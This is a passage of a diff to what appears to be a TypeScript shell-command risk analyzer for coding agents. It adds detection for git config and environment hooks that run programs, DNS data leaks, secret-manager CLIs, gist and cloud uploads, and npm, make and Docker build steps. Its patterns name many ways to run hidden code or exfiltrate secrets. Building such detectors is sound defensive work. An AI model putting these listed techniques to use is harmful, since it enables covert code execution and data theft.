   if (ops.length < 2) return;
@@ -1604,6 +1950,9 @@ on(['scp', 'rsync', 'sftp'], (a, inv) => {
     a.path(dest, 'write', `${inv.program} destination`, inv.st, { recursive: true });
     if (inv.program === 'rsync' && p.flags.some((x) => x.startsWith('--delete'))) a.path(dest, 'delete', 'rsync --delete', inv.st, { recursive: true });
   }
+  if (inv.program === 'rsync' && has(p, '--remove-source-files')) {
+    for (const src of sources) if (!remoteSpec(src.text)) a.path(src, 'delete', 'rsync --remove-source-files', inv.st, { recursive });
+  }
 });
 
 on(['ssh', 'mosh', 'autossh'], (a, inv) => {
@@ -1614,7 +1963,7 @@ on(['ssh', 'mosh', 'autossh'], (a, inv) => {
   const [dest, ...remote] = p.rest;
   if (!dest) return;
   const host = dest.text.replace(/^ssh:\/\//, '').replace(/^[^@]*@/, '').replace(/[:/].*$/, '');
-  addUrl(a, inv, `ssh://${host}`, 'ssh', remote.length ? sendsOf(remote[0]!) : stdinSends(inv.stdin));
+  addUrl(a, inv, `ssh://${host}`, 'ssh', strongerSends(remote.length ? sendsOf(remote[0]!) : undefined, stdinSends(inv.stdin)));
 });
 
 on(['ftp', 'tftp', 'lftp', 'ncftp', 'ftps'], (a, inv) => {
@@ -1626,14 +1975,53 @@ on(['ftp', 'tftp', 'lftp', 'ncftp', 'ftps'], (a, inv) => {
 on(['ping', 'ping6', 'dig', 'nslookup', 'host', 'traceroute', 'tracepath', 'mtr', 'whois', 'nmap', 'getent'], (a, inv) => {
   const p = parseArgs(inv.args, { short: 'cWiIsStpfqbxyk' });
   emit(a, inv, p);
-  for (const o of p.operands) if (!/^\d+$/.test(o.text) && !o.text.startsWith('@') && o.text !== 'hosts') addUrl(a, inv, o.text, inv.program, undefined, 'dns');
+  // A hostname built from command output or variables leaks that data through DNS.
+  for (const o of p.operands) if (!/^\d+$/.test(o.text) && !o.text.startsWith('@') && o.text !== 'hosts') addUrl(a, inv, o.text, inv.program, o.from ? sendsOf(o) : undefined, 'dns');
 });
 
 // ── version control ─────────────────────────────────────────────────────
 
-const GIT_EXEC_KEYS = /^(core\.(pager|editor|sshcommand|hookspath|fsmonitor|gitproxy|askpass)|sequence\.editor|diff\.external|diff\..+\.(textconv|command)|merge\..+\.driver|filter\..+\.(clean|smudge|process)|credential\.helper|credential\..+\.helper|gpg\.program|gpg\..+\.program|alias\..+|uploadpack\.packobjectshook|interactive\.difffilter|pager\..+|web\.browser|browser\..+\.cmd|man\..+\.cmd|remote\..+\.(uploadpack|receivepack)|core\.alternaterefscommand|protocol\.ext\.allow)$/i;
+const GIT_EXEC_KEYS = /^(core\.(pager|editor|sshcommand|hookspath|fsmonitor|gitproxy|askpass)|sequence\.editor|diff\.external|diff\..+\.(textconv|command)|merge\..+\.driver|filter\..+\.(clean|smudge|process)|credential\.helper|credential\..+\.helper|gpg\.program|gpg\..+\.program|uploadpack\.packobjectshook|interactive\.difffilter|pager\..+|web\.browser|browser\..+\.cmd|man\..+\.cmd|remote\..+\.(uploadpack|receivepack)|core\.alternaterefscommand|protocol\.ext\.allow)$/i;
 
-on('git', (a, inv) => gitCommand(a, inv, inv.args, inv.st, new Map(), 0));
+on('git', (a, inv) => {
+  // Aliases defined earlier in this command line (git config alias.x …) apply; -c ones only to this call.
+  const aliases = new Map(inv.st.world.gitAliases);
+  gitEnvironment(a, inv, aliases);
+  gitCommand(a, inv, inv.args, inv.st, aliases, 0);
+});
+
+/** Environment variables git reads as configuration or as programs to run. */
+const GIT_ENV_PROGRAMS: Record<string, string> = {
+  GIT_SSH_COMMAND: 'core.sshcommand',
+  GIT_SSH: 'core.sshcommand',
+  GIT_PAGER: 'core.pager',
+  GIT_EDITOR: 'core.editor',
+  GIT_SEQUENCE_EDITOR: 'sequence.editor',
+  GIT_EXTERNAL_DIFF: 'diff.external',
+  GIT_ASKPASS: 'core.askpass',
+  GIT_PROXY_COMMAND: 'core.gitproxy',
+};
+
+function gitEnvironment(a: ShellAnalyzer, inv: Invocation, aliases: Map<string, Field>): void {
+  const valueOf = (name: string): string | undefined => {
+    if (name in inv.env) return inv.env[name];
+    if (!inv.st.exported.has(name)) return undefined;
+    const v = a.varOf(inv.st, name);
+    return v.v.length === 1 && !v.dyn ? v.v[0] : v.v.length || v.dyn ? DYN : undefined;
+  };
+  for (const [name, key] of Object.entries(GIT_ENV_PROGRAMS)) {
+    const v = valueOf(name);
+    if (v !== undefined) gitConfigValue(a, inv, f(`${key}=${v}`), aliases, name);
+  }
+  const count = Number(valueOf('GIT_CONFIG_COUNT'));
+  for (let k = 0; k < Math.min(Number.isFinite(count) ? count : 0, 32); k++) {
+    const key = valueOf(`GIT_CONFIG_KEY_${k}`);
+    const v = valueOf(`GIT_CONFIG_VALUE_${k}`);
+    if (key !== undefined) gitConfigValue(a, inv, f(`${key}=${v ?? ''}`), aliases, `GIT_CONFIG_KEY_${k}`);
+  }
+  const params = valueOf('GIT_CONFIG_PARAMETERS');
+  if (params !== undefined) for (const m of params.matchAll(/'([^']*)'/g)) gitConfigValue(a, inv, f(m[1]!), aliases, 'GIT_CONFIG_PARAMETERS');
+}
 
 function gitCommand(a: ShellAnalyzer, inv: Invocation, args: Field[], stIn: State, aliases: Map<string, Field>, aliasDepth: number): void {
   let st = stIn;
@@ -1661,6 +2049,11 @@ function gitCommand(a: ShellAnalyzer, inv: Invocation, args: Field[], stIn: Stat
     a.command({ program: 'git', invokedAs: inv.invokedAs, args: args.map((x) => x.text), subcommand: [], flags: globalFlags, operands: [], via: inv.via, env: inv.env, depth: inv.depth });
     return;
   }
+  if (sub.dynamic) {
+    a.risk('dynamic-program', `git subcommand computed at run time: ${sub.text}`);
+    a.command({ program: 'git', invokedAs: inv.invokedAs, args: args.map((x) => x.text), subcommand: [DYN], flags: globalFlags, operands: subArgs.map((x) => x.text), via: inv.via, env: inv.env, depth: inv.depth });
+    return;
+  }
   const alias = aliases.get(sub.text);
   if (alias && aliasDepth < 4) {
     if (alias.text.startsWith('!')) {
@@ -1678,15 +2071,20 @@ function gitCommand(a: ShellAnalyzer, inv: Invocation, args: Field[], stIn: Stat
   else gitGeneric(ctx, {});
 }
 
-function gitConfigValue(a: ShellAnalyzer, inv: Invocation, kv: Field, aliases: Map<string, Field>): void {
+/** A git configuration value that runs a program: the risk, and the program it runs, analysed. */
+function gitConfigValue(a: ShellAnalyzer, inv: Invocation, kv: Field, aliases: Map<string, Field>, source = 'git -c'): void {
   const eq = kv.text.indexOf('=');
   const key = (eq < 0 ? kv.text : kv.text.slice(0, eq)).toLowerCase();
   const val = eq < 0 ? '' : kv.text.slice(eq + 1);
-  if (GIT_EXEC_KEYS.test(key)) a.risk('git-config-exec', `git -c ${key}=${val}`);
-  if (key.startsWith('alias.')) aliases.set(kv.text.slice(6, eq < 0 ? undefined : eq), { ...kv, text: val });
-  else if (GIT_EXEC_KEYS.test(key) && val && !/^(true|false|\d+)$/.test(val) && key !== 'core.hookspath') {
-    runText(a, inv, { ...kv, text: val.replace(/^!/, '') }, `git config ${key}`);
+  if (key.startsWith('alias.')) {
+    aliases.set(kv.text.slice(6, eq < 0 ? undefined : eq), { ...kv, text: val });
+    // A plain alias is more git arguments (expanded where used); only `!` aliases run a shell.
+    if (val.startsWith('!') || kv.dynamic) a.risk('git-config-exec', `${source} ${key}=${val}`);
+    return;
   }
+  if (!GIT_EXEC_KEYS.test(key)) return;
+  a.risk('git-config-exec', `${source} ${key}=${val}`);
+  if (val && !/^(true|false|\d+)$/.test(val) && key !== 'core.hookspath') runText(a, inv, { ...kv, text: val.replace(/^!/, '') }, `git config ${key}`);
 }
 
 interface GitCtx {
@@ -1720,6 +2118,10 @@ function gitGeneric(c: GitCtx, spec: OptSpec, pathAccess?: 'read' | 'write' | 'd
   return p;
 }
 
+function looksLikeRevision(t: string): boolean {
+  return /^(HEAD|FETCH_HEAD|ORIG_HEAD|MERGE_HEAD|@)([~^]\d*)*$/.test(t) || /^[0-9a-f]{7,40}([~^]\d*)*$/.test(t) || t.includes('..') || /^(origin|upstream)\//.test(t) || t.includes(':');
+}
+
 function repoRoot(c: GitCtx): string {
   return c.a.env.vars.CLAUDE_PROJECT_DIR ?? c.a.cwdList(c.st)[0]!;
 }
@@ -1751,7 +2153,10 @@ const GIT_SUBCOMMANDS: Record<string, (c: GitCtx) => void> = {
     if (has(p, '-d', '--delete', '--prune', '--mirror') || refspecs.some((r) => r.text.startsWith(':') && r.text.length > 1)) extra.push('--delete', '-d');
     gitEmit(c, p, ['push'], extra);
     for (const e of allValues(p, '--receive-pack', '--exec')) c.a.risk('git-config-exec', `git push --receive-pack=${e.text}`);
-    if (remote && (looksLikeUrl(remote.text) || remoteSpec(remote.text))) addUrl(c.a, c.inv, looksLikeUrl(remote.text) ? remote.text : `ssh://${remoteSpec(remote.text)!.host}`, 'git push');
+    // Pushing to a URL, or to a remote added by this very command line, sends the repository somewhere new.
+    const added = remote ? c.st.world.gitRemotes.get(remote.text) : undefined;
+    const target = added ?? (remote && (looksLikeUrl(remote.text) || remoteSpec(remote.text)) ? remote.text : undefined);
+    if (target) addUrl(c.a, c.inv, looksLikeUrl(target) ? target : `ssh://${remoteSpec(target)?.host ?? target}`, 'git push', 'file');
   },
   reset: (c) => {
     gitGeneric(c, { groups: [['-q', '--quiet']], flags: ['--hard', '--soft', '--mixed', '--merge', '--keep'] });
@@ -1800,7 +2205,12 @@ const GIT_SUBCOMMANDS: Record<string, (c: GitCtx) => void> = {
     const p = gitGeneric(c, { long: ['batch', 'filters', 'path'] });
     revPaths(c, p.operands);
   },
-  log: (c) => void revPaths(c, gitGeneric(c, { short: 'nLG', long: ['format', 'pretty', 'since', 'until', 'author', 'grep', 'output', 'max-count'] }).operands),
+  log: (c) => {
+    const p = gitGeneric(c, { short: 'nLG', long: ['format', 'pretty', 'since', 'until', 'author', 'grep', 'output', 'max-count', 'date', 'decorate'] });
+    revPaths(c, p.operands);
+    // Without `--`, an operand that is not a revision is a pathspec (`git log -p .env`).
+    if (!p.afterDashDash.length) for (const o of p.operands) if (!looksLikeRevision(o.text)) c.a.path(o, 'read', 'git log path', c.st);
+  },
   diff: (c) => {
     const p = gitGeneric(c, { long: ['output', 'diff-filter', 'relative', 'stat', 'word-diff-regex'] });
     revPaths(c, p.operands);
@@ -1838,13 +2248,19 @@ const GIT_SUBCOMMANDS: Record<string, (c: GitCtx) => void> = {
       return;
     }
     const file = value(p, '-f', '--file');
-    const target = file ? file.text : has(p, '--global') ? `${c.a.env.home}/.gitconfig` : has(p, '--system') ? '/etc/gitconfig' : `${repoRoot(c)}/.git/config`;
-    c.a.path(f(target), 'write', 'git config', c.st);
     const key = kv[0]?.text.toLowerCase() ?? '';
     const val = kv[1];
-    if (GIT_EXEC_KEYS.test(key)) {
+    const target = file ? file.text : has(p, '--global') ? `${c.a.env.home}/.gitconfig` : has(p, '--system') ? '/etc/gitconfig' : `${repoRoot(c)}/.git/config`;
+    c.a.path(f(target), 'write', 'git config', c.st);
+    if (key.startsWith('alias.') && val && !has(p, '--unset', '--unset-all')) {
+      c.st.world.gitAliases.set(kv[0]!.text.slice(6), val);
+      if (val.text.startsWith('!') || val.dynamic) {
+        c.a.risk('git-config-exec', `git config ${key} ${val.text}`);
+        runText(c.a, { ...c.inv, st: c.st }, { ...val, text: val.text.replace(/^!/, '') }, `git config ${key}`);
+      }
+    } else if (GIT_EXEC_KEYS.test(key)) {
       c.a.risk('git-config-exec', `git config ${key}${val ? ` ${val.text}` : ''}`);
-      if (val && key.startsWith('alias.') && val.text.startsWith('!')) runText(c.a, { ...c.inv, st: c.st }, { ...val, text: val.text.slice(1) }, `git config ${key}`);
+      if (val && key !== 'core.hookspath' && !/^(true|false|\d+)$/.test(val.text)) runText(c.a, { ...c.inv, st: c.st }, { ...val, text: val.text.replace(/^!/, '') }, `git config ${key}`);
     }
   },
   clone: (c) => {
@@ -1872,8 +2288,10 @@ const GIT_SUBCOMMANDS: Record<string, (c: GitCtx) => void> = {
     gitEmit(c, p, action ? ['remote', action.text] : ['remote']);
     if (action && ['add', 'set-url'].includes(action.text)) {
       const url = rest[rest.length - 1];
+      const name = rest.length > 1 ? rest[rest.length - 2] : undefined;
       if (url) {
         c.a.path(f(`${repoRoot(c)}/.git/config`), 'write', `git remote ${action.text}`, c.st);
+        if (name && !name.dynamic && !url.dynamic) c.st.world.gitRemotes.set(name.text, url.text);
         const r = remoteSpec(url.text);
         if (looksLikeUrl(url.text)) addUrl(c.a, c.inv, url.text, `git remote ${action.text}`);
         else if (r) addUrl(c.a, c.inv, `ssh://${r.host}`, `git remote ${action.text}`);
@@ -1905,9 +2323,10 @@ const GIT_SUBCOMMANDS: Record<string, (c: GitCtx) => void> = {
     for (const e of allValues(p, '-x', '--exec')) runText(c.a, { ...c.inv, st: c.st }, e, 'git rebase --exec');
   },
   bisect: (c) => {
-    const p = parseArgs(c.args);
-    gitEmit(c, p, p.operands[0] ? ['bisect', p.operands[0].text] : ['bisect']);
-    if (p.operands[0]?.text === 'run') c.a.exec(p.operands.slice(1), c.st, { env: c.inv.env, stdin: { kind: 'none' }, via: [...c.inv.via, 'git bisect run'], depth: c.inv.depth + 1 });
+    const p = parseArgs(c.args, { stopAtOperand: true });
+    const [action, ...rest] = p.rest;
+    gitEmit(c, p, action ? ['bisect', action.text] : ['bisect']);
+    if (action?.text === 'run') c.a.exec(rest, c.st, { env: c.inv.env, stdin: { kind: 'none' }, via: [...c.inv.via, 'git bisect run'], depth: c.inv.depth + 1 });
   },
   submodule: (c) => {
     const p = parseArgs(c.args, { stopAtOperand: true });
@@ -1934,7 +2353,7 @@ const GIT_SUBCOMMANDS: Record<string, (c: GitCtx) => void> = {
     c.a.url({ url: 'smtp://mail', host: value(p, '--smtp-server')?.text ?? 'smtp', scheme: 'smtp', via: 'git send-email', sends: 'file' });
   },
   difftool: (c) => {
-    const p = gitGeneric(c, { short: 'xty', long: ['extcmd', 'tool'] });
+    const p = gitGeneric(c, { short: 'xt', long: ['extcmd', 'tool'], groups: [['-y', '--no-prompt']] });
     for (const e of allValues(p, '-x', '--extcmd')) runText(c.a, { ...c.inv, st: c.st }, e, 'git difftool --extcmd');
   },
   worktree: (c) => {
@@ -1971,6 +2390,7 @@ on(['docker', 'podman', 'nerdctl'], (a, inv) => {
   const globalP = parseArgs(inv.args, { stopAtOperand: true, short: 'cHl', long: ['config', 'context', 'host', 'log-level', 'tlscacert', 'tlscert', 'tlskey'] });
   const [sub, ...rest] = globalP.rest;
   const p = parseArgs(rest, {
+    stopAtOperand: ['run', 'create', 'exec'].includes(sub?.text ?? ''),
     short: 'vefwpuhlmtic',
     long: ['volume', 'mount', 'env', 'env-file', 'file', 'workdir', 'publish', 'user', 'name', 'network', 'entrypoint', 'secret', 'build-arg', 'tag', 'label', 'platform', 'memory', 'cpus', 'cap-add', 'device', 'security-opt', 'hostname', 'add-host', 'target', 'output', 'cache-from', 'ssh'],
   });
@@ -1992,7 +2412,17 @@ on(['docker', 'podman', 'nerdctl'], (a, inv) => {
     if (src) a.path({ ...s, text: src }, 'read', `${inv.program} --secret`, inv.st);
   }
   for (const ef of allValues(p, '--env-file')) a.path(ef, 'read', `${inv.program} --env-file`, inv.st);
-  if (sub?.text === 'build' || sub?.text === 'buildx') for (const df of allValues(p, '-f', '--file')) a.path(df, 'read', `${inv.program} build file`, inv.st);
+  if (sub?.text === 'build' || sub?.text === 'buildx') {
+    const context = p.operands.filter((o) => o.text !== 'build')[0] ?? f('.');
+    for (const df of allValues(p, '-f', '--file')) {
+      a.path(df, 'read', `${inv.program} build file`, inv.st);
+      // COPY and ADD sources of a Dockerfile given on stdin or written by this command line are read
+      // from the build context into the image.
+      const text = df.text === '-' ? stdinText(inv.stdin) : textOrigin(a.fileOrigin(inv.st, df));
+      if (!text) continue;
+      for (const src of dockerfileSources(text.text)) a.path(f(`${context.text.replace(/\/+$/, '')}/${src}`), 'read', `${inv.program} build COPY`, inv.st, { recursive: true });
+    }
+  }
   if (sub?.text === 'cp') {
     const [from, to] = p.operands;
     if (from && !/^[\w.-]+:/.test(from.text)) a.path(from, 'read', `${inv.program} cp source`, inv.st, { recursive: true });
@@ -2054,6 +2484,13 @@ const CLI_SUBCOMMAND_DEPTH: Record<string, { depth: number; spec: OptSpec; files
   pip: { depth: 1, spec: { short: 'rcei', long: ['requirement', 'constraint', 'editable', 'index-url', 'extra-index-url', 'target', 'prefix', 'root'] }, files: ['-r', '--requirement', '-c', '--constraint'] },
   pip3: { depth: 1, spec: { short: 'rcei', long: ['requirement', 'constraint', 'editable', 'index-url', 'extra-index-url', 'target'] }, files: ['-r', '--requirement'] },
   go: { depth: 1, spec: { short: 'oCp', long: ['modfile', 'tags', 'ldflags', 'gcflags', 'run', 'count', 'timeout'] } },
+  security: { depth: 1, spec: { short: 'sacdlrPDtT' } },
+  op: { depth: 2, spec: { long: ['account', 'vault', 'fields', 'format', 'session'] } },
+  'secret-tool': { depth: 1, spec: {} },
+  vault: { depth: 2, spec: { long: ['address', 'namespace', 'format', 'field', 'mount'] } },
+  doppler: { depth: 2, spec: { short: 'pc', long: ['project', 'config', 'token'] } },
+  pass: { depth: 1, spec: {} },
+  gopass: { depth: 1, spec: {} },
   claude: { depth: 1, spec: { short: 'pr', long: ['print', 'resume', 'model', 'permission-mode', 'settings', 'setting-sources', 'mcp-config', 'allowedTools', 'allowed-tools', 'disallowedTools', 'append-system-prompt', 'output-format', 'input-format', 'add-dir', 'agents', 'session-id'] } },
   codex: { depth: 1, spec: { short: 'cmas', long: ['config', 'model', 'sandbox', 'ask-for-approval'] } },
   gemini: { depth: 1, spec: { short: 'pm', long: ['prompt', 'model'] } },
@@ -2080,9 +2517,6 @@ const CLI_SUBCOMMAND_DEPTH: Record<string, { depth: number; spec: OptSpec; files
   usermod: { depth: 0, spec: { short: 'cdeGglpsu' } },
   passwd: { depth: 0, spec: {} },
   visudo: { depth: 0, spec: { short: 'f' } },
-  npx: { depth: 1, spec: { short: 'pc', long: ['package', 'call'] } },
-  bunx: { depth: 1, spec: {} },
-  pnpx: { depth: 1, spec: {} },
 };
 
 function cliHandler(a: ShellAnalyzer, inv: Invocation): void {
@@ -2098,14 +2532,247 @@ function cliHandler(a: ShellAnalyzer, inv: Invocation): void {
   if (name === 'make' || name === 'just') {
     const dir = value(p, '-C', '--directory', '-d', '--working-directory');
     if (dir) a.path(dir, 'list', `${inv.program} -C`, inv.st);
+    for (const file of allValues(p, '-f', '--file', '--makefile')) {
+      // A makefile this command line wrote, or one given on stdin: its recipes are shell commands.
+      const text = file.text === '-' ? stdinText(inv.stdin) : textOrigin(a.fileOrigin(inv.st, file));
+      if (text) for (const recipe of makeRecipes(text.text)) runText(a, inv, recipe, 'make recipe', { kind: 'none' });
+    }
   }
   if (name === 'claude' || name === 'codex' || name === 'gemini' || name === 'aider') {
     a.risk('nested-agent', `${inv.program} starts another coding agent${p.flags.some((x) => /dangerously|bypass|skip-permissions|bare|yolo/i.test(x)) ? ' without its permission checks' : ''}`);
   }
-  for (const u of p.operands) if (looksLikeUrl(u.text)) addUrl(a, inv, u.text, inv.program);
+  for (const u of p.operands) if (looksLikeUrl(u.text) && !/^(s3|gs):/.test(u.text)) addUrl(a, inv, u.text, inv.program);
+  if (p.operands[0]?.dynamic && ['git', 'docker', 'kubectl', 'terraform', 'helm', 'aws', 'gcloud', 'az', 'gh'].includes(name)) a.risk('dynamic-program', `${inv.program} subcommand computed at run time: ${p.operands[0].text}`);
+  const ops = p.operands.slice(entry.depth);
+  // Object storage copies: local sources are read (and sent), local destinations written.
+  if ((name === 'aws' && sub[0] === 's3' && ['cp', 'mv', 'sync'].includes(sub[1] ?? '')) || (name === 'gsutil' && ['cp', 'mv', 'rsync'].includes(sub[0] ?? ''))) {
+    const files = name === 'gsutil' ? p.operands.slice(1) : ops;
+    const dest = files[files.length - 1];
+    const sources = files.slice(0, -1);
+    const remote = (x: Field): boolean => /^(s3|gs):\/\//.test(x.text);
+    const recursive = sub.includes('sync') || sub.includes('rsync') || has(p, '--recursive', '-r', '-R');
+    for (const src of sources) {
+      if (!remote(src)) {
+        a.path(src, 'read', `${inv.program} upload source`, inv.st, { recursive });
+        if (sub.includes('mv')) a.path(src, 'delete', `${inv.program} mv source`, inv.st, { recursive });
+      }
+    }
+    if (dest && remote(dest)) addUrl(a, inv, dest.text.replace(/^((?:s3|gs):\/\/[^/]+).*$/, '$1'), inv.program, sources.some((x) => !remote(x)) ? 'file' : undefined);
+    else if (dest) a.path(dest, 'write', `${inv.program} download destination`, inv.st, { recursive });
+  }
+  if (name === 'gh' && ((sub[0] === 'gist' && sub[1] === 'create') || (sub[0] === 'release' && (sub[1] === 'upload' || sub[1] === 'create')))) {
+    const files = sub[0] === 'gist' ? ops : ops.slice(1);
+    readAll(a, inv, files.filter((x) => x.text !== '-'), `gh ${sub.join(' ')} file`);
+    if (files.length) addUrl(a, inv, 'https://api.github.com', `gh ${sub.join(' ')}`, 'file');
+  }
 }
-on(Object.keys(CLI_SUBCOMMAND_DEPTH), cliHandler);
+on(Object.keys(CLI_SUBCOMMAND_DEPTH).filter((n) => !['npm', 'pnpm', 'yarn', 'bun'].includes(n)), cliHandler);
 on(['mkfs.ext4', 'mkfs.ext3', 'mkfs.ext2', 'mkfs.xfs', 'mkfs.btrfs', 'mkfs.vfat', 'mkfs.fat', 'mkfs.ntfs', 'mkfs.exfat', 'mke2fs', 'newfs', 'newfs_apfs'], cliHandler);
+
+function textOrigin(o: FileOrigin | undefined): { text: string; dynamic: boolean } | undefined {
+  return o?.kind === 'text' ? { text: o.text, dynamic: o.dynamic } : undefined;
+}
+
+/** Recipe lines of a makefile, with make's own syntax turned into shell: `$$` is `$`, `$(VAR)` unknown. */
+function makeRecipes(text: string): string[] {
+  const out: string[] = [];
+  for (const line of text.replace(/\\\n/g, ' ').split('\n')) {
+    if (!line.startsWith('\t')) continue;
+    const cmd = line
+      .slice(1)
+      .replace(/^[@+-]+/, '')
+      .replace(/\$\$/g, '\u0002')
+      .replace(/\$[({][^)}]*[)}]|\$[@<^?*%]/g, DYN)
+      .replace(/\u0002/g, '$');
+    if (cmd.trim()) out.push(cmd);
+  }
+  return out.slice(0, 64);
+}
+
+/** Source operands of COPY/ADD instructions (not --from=another stage). */
+function dockerfileSources(text: string): string[] {
+  const out: string[] = [];
+  for (const line of text.replace(/\\\n/g, ' ').split('\n')) {
+    const m = /^\s*(COPY|ADD)\s+(.*)$/i.exec(line);
+    if (!m) continue;
+    let words: string[];
+    try {
+      words = m[2]!.trim().startsWith('[') ? (JSON.parse(m[2]!) as unknown[]).map(String) : m[2]!.trim().split(/\s+/);
+    } catch {
+      words = m[2]!.trim().split(/\s+/);
+    }
+    if (words.some((w) => /^--from=/.test(w))) continue;
+    const operands = words.filter((w) => !w.startsWith('--'));
+    out.push(...operands.slice(0, -1).filter((s) => !/^https?:/.test(s)));
+  }
+  return out.slice(0, 64);
+}
+
+// ── package runners, npm scripts ────────────────────────────────────────
+
+/** The executable a package installs, for the packages whose name differs from it. */
+const PACKAGE_BINS: Record<string, string> = {
+  'claude-code': 'claude', 'firebase-tools': 'firebase', 'aws-cdk': 'cdk', 'netlify-cli': 'netlify', cli: 'railway',
+  'serverless': 'serverless', typescript: 'tsc', '@google/gemini-cli': 'gemini', 'gemini-cli': 'gemini', '@openai/codex': 'codex',
+  'aider-chat': 'aider', 'heroku': 'heroku', '@azure/static-web-apps-cli': 'swa', 'vercel': 'vercel', 'wrangler': 'wrangler',
+};
+
+function packageBin(spec: string): string {
+  const noVersion = spec.replace(/^(@[^/]+\/[^@]+|[^@]+)@.*$/, '$1');
+  if (PACKAGE_BINS[noVersion]) return PACKAGE_BINS[noVersion]!;
+  const base = noVersion.includes('/') ? noVersion.slice(noVersion.lastIndexOf('/') + 1) : noVersion;
+  return PACKAGE_BINS[base] ?? base;
+}
+
+/**
+ * npx / npm exec / pnpm dlx / yarn dlx / bunx / uvx / pipx run: the package's executable runs with the
+ * remaining arguments, as if called directly (`npx cdk deploy` is `cdk deploy`).
+ */
+function packageRunner(a: ShellAnalyzer, inv: Invocation, args: Field[], label: string): void {
+  const p = parseArgs(args, { stopAtOperand: true, short: 'pc', long: ['package', 'call', 'from', 'spec', 'with', 'python'], flags: ['--yes', '--no', '--quiet', '--ignore-existing'] });
+  emit(a, inv, p, p.rest[0] ? [p.rest[0].text] : []);
+  const call = value(p, '-c', '--call');
+  if (call) return runText(a, inv, call, `${label} -c`);
+  const [cmd, ...rest] = p.rest;
+  if (!cmd) return;
+  const bin = value(p, '-p', '--package', '--from', '--spec') ? cmd.text : packageBin(cmd.text);
+  wrap(a, inv, [{ ...cmd, text: bin }, ...rest], label);
+}
+
+on(['npx', 'bunx', 'pnpx', 'uvx'], (a, inv) => packageRunner(a, inv, inv.args, inv.program));
+on('pipx', (a, inv) => {
+  if (inv.args[0]?.text === 'run') packageRunner(a, inv, inv.args.slice(1), 'pipx run');
+  else emit(a, inv, parseArgs(inv.args), inv.args[0] ? [inv.args[0].text] : []);
+});
+
+on(['rimraf', 'del', 'del-cli', 'trash', 'trash-put', 'gio'], (a, inv) => {
+  const args = inv.program === 'gio' ? (inv.args[0]?.text === 'trash' || inv.args[0]?.text === 'remove' ? inv.args.slice(1) : []) : inv.args;
+  const p = parseArgs(args, { long: ['glob', 'preserve-root'] });
+  emit(a, inv, p);
+  for (const o of p.operands) {
+    a.path(o, 'delete', `${inv.program} operand`, inv.st, { recursive: true });
+    if (o.dynamic || (!o.glob && o.text.includes(DYN))) a.risk('dynamic-path-delete', `${inv.program} of a path computed at run time: ${o.text}`);
+  }
+});
+
+/** npm, pnpm, yarn and bun: publishing, config writes, and the scripts `run` executes. */
+const NPM_LIKE = ['npm', 'pnpm', 'yarn', 'bun'];
+const NPM_LIFECYCLE: Record<string, string[]> = {
+  test: ['pretest', 'test', 'posttest'],
+  t: ['pretest', 'test', 'posttest'],
+  start: ['prestart', 'start', 'poststart'],
+  stop: ['prestop', 'stop', 'poststop'],
+  restart: ['prerestart', 'restart', 'postrestart'],
+  install: ['preinstall', 'install', 'postinstall', 'prepare'],
+  i: ['preinstall', 'install', 'postinstall', 'prepare'],
+  ci: ['preinstall', 'install', 'postinstall', 'prepare'],
+  pack: ['prepack', 'prepare', 'postpack'],
+  publish: ['prepublishOnly', 'prepack', 'prepare', 'postpack', 'publish', 'postpublish'],
+};
+
+function npmHandler(a: ShellAnalyzer, inv: Invocation): void {
+  const entry = CLI_SUBCOMMAND_DEPTH[inv.program]!;
+  const p = parseArgs(inv.args, entry.spec);
+  const words = p.operands.filter((x) => !x.dynamic).map((x) => x.text);
+  emit(a, inv, p, words.slice(0, entry.depth));
+  const [sub, second, ...rest] = p.operands;
+  if (!sub) return;
+  if (sub.dynamic) return a.risk('dynamic-program', `${inv.program} subcommand computed at run time: ${sub.text}`);
+  const s1 = sub.text;
+  if ((s1 === 'exec' || s1 === 'x' || s1 === 'dlx') && inv.program !== 'bun') return packageRunner(a, inv, p.operands.slice(1), `${inv.program} ${s1}`);
+  if (s1 === 'config' && second && ['set', 'delete', 'edit', 'rm'].includes(second.text)) {
+    const loc = value(p, '--location')?.text ?? (has(p, '-g', '--global') ? 'global' : 'user');
+    const file = loc === 'project' ? '.npmrc' : loc === 'global' ? '/usr/local/etc/npmrc' : `${a.env.home}/.npmrc`;
+    a.path(f(file), 'write', `${inv.program} config ${second.text}`, inv.st);
+    return;
+  }
+  if (s1 === 'pkg' && second?.text === 'set') {
+    a.path(f('package.json'), 'write', `${inv.program} pkg set`, inv.st);
+    for (const kv of rest) {
+      const m = /^scripts\.([^=]+)=(.*)$/s.exec(kv.text);
+      if (m) inv.st.world.npmScripts.set(m[1]!, { ...kv, text: m[2]! });
+    }
+    return;
+  }
+  // Scripts this command line runs: `npm run x`, `npm test`, `yarn x`, `pnpm x`, `bun run x`.
+  let names: string[] = [];
+  if (s1 === 'run' || s1 === 'run-script' || s1 === 'rum' || s1 === 'urn') names = second && !second.dynamic ? [`pre${second.text}`, second.text, `post${second.text}`] : [];
+  else if (NPM_LIFECYCLE[s1]) names = NPM_LIFECYCLE[s1]!;
+  else if (inv.program !== 'npm') names = [s1];
+  if (second?.dynamic && (s1 === 'run' || s1 === 'run-script')) a.risk('dynamic-program', `${inv.program} run of a script name computed at run time`);
+  for (const name of names) {
+    const script = inv.st.world.npmScripts.get(name) ?? packageJsonScript(a, inv, name);
+    if (script) runText(a, inv, script, `${inv.program} script ${name}`, { kind: 'none' });
+  }
+}
+on(NPM_LIKE, npmHandler);
+
+/** A script from the package.json in the current directory (read through the file-system probe). */
+function packageJsonScript(a: ShellAnalyzer, inv: Invocation, name: string): Field | undefined {
+  const read = a.env.fs?.readText;
+  if (!read) return undefined;
+  const file = a.firstPath(f('package.json'), inv.st);
+  const origin = a.fileOrigin(inv.st, file);
+  const text = origin?.kind === 'text' ? origin.text : read(file, 1_000_000);
+  if (!text) return undefined;
+  try {
+    const scripts = (JSON.parse(text) as { scripts?: Record<string, unknown> }).scripts;
+    const script = scripts?.[name];
+    return typeof script === 'string' ? f(script) : undefined;
+  } catch {
+    return undefined;
+  }
+}
+
+// ── terminal multiplexers ───────────────────────────────────────────────
+
+on('tmux', (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'LSfc' });
+  emit(a, inv, p, p.rest[0] ? [p.rest[0].text] : []);
+  if (value(p, '-c')) return runText(a, inv, value(p, '-c')!, 'tmux -c');
+  const [sub, ...rest] = p.rest;
+  if (!sub) return;
+  const sp = parseArgs(rest, { short: 'tsnxyFcePlvhe', stopAtOperand: true });
+  const cmd = sp.rest;
+  if (!cmd.length) return;
